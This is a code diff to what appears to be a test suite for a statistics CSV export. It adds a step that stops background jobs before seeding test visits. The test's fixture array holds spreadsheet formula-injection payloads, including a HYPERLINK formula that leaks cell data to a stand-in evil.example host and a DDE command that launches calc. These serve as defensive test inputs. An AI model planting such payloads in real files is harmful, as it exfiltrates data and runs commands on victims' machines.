@@ -81,6 +81,10 @@ describe(`the statistics CSV export on ${testDialect}`, () => {
   const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1;2)'];
   beforeAll(async () => {
     testApp = await createTestApp();
+    // The app's housekeeping rolls finished days up as it starts; a run still going while the
+    // back-dated visits below are written would roll a day up half-way (seen on PostgreSQL in CI:
+    // 6 visits of the seeded 8), as in visit-input.test.ts.
+    await testApp.app.jobs.stop();
     await seedTraffic(testApp.db, SEEDED_VISITS);
     await recordCvDownload(testApp.db, 'russian', 'pdf', new Date('2026-11-11T09:00:00Z'));
     await recordCvDownload(testApp.db, 'russian', 'pdf', new Date('2026-11-12T09:00:00Z'));
